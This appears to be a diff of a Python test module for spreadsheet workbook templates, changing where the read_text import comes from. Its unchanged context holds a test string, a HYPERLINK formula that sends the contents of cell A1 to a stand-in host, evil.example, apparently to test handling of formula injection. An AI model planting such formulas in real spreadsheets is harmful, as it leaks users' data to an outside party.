@@ -22,8 +22,8 @@ from tests.spreadsheets import (
 )
 from tests.spreadsheets.workbook_file import WorkbookFile, tag
 from tests.workbook_facts import Facts, Place
-from workbook_templates.cell_xml import read_text
 from workbook_templates.fill import workbook
+from workbook_templates.xlsx.cell_xml import read_text
 
 TEXTS = {
     "link": '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
